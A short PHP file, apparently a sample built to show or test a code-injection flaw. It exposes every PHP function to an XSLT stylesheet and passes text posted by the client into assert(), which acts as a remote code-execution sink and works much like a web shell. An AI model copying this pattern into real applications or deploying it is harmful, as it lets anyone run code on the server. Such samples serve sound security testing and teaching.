<?php
// XSLT with every PHP function exposed, calling a code sink on the text
// of the transformed document (here, posted by the client).
$xml = '<root>' . htmlspecialchars($_POST['doc'] ?? '') . '</root>';
$xsl = '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl">
  <xsl:template match="/root"><xsl:value-of select="php:function(\'assert\', string(.))"/></xsl:template>
</xsl:stylesheet>';
$proc = new XSLTProcessor();
$proc->registerPHPFunctions();
$proc->importStylesheet(DOMDocument::loadXML($xsl));
echo $proc->transformToXML(DOMDocument::loadXML($xml));
